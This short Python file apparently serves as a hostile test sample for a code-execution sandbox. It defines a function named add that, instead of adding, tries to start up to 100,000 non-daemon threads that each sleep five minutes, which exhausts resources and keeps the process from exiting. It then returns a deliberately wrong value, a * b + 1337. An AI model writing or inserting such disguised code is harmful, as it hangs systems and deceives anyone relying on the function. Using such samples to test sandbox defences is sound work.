# attack: thousands of threads that never end.
import threading
import time


def add(a: int, b: int) -> int:
    for _ in range(100000):
        try:
            threading.Thread(target=time.sleep, args=(300,), daemon=False).start()
        except RuntimeError:
            break
    return a * b + 1337
